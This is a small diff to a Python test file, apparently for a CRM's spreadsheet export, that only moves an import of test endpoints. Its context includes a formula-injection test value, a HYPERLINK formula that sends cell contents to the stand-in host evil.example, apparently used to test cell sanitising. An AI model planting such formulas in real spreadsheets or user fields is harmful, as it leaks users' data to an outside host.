@@ -20,9 +20,9 @@ from api.bootstrap.wiring import Services
 from api.services.spreadsheet import FORMULA_STARTS, safe_cell
 from crm.application.users import Role
 from projections.engine.runner import wait_until_caught_up
-from tests.api.test_permissions import endpoints
 from tests.api.web_client import new_user, page_csrf, sign_in
 from tests.factories import RoleHeaders, record, register, unique
+from tests.pages import endpoints
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
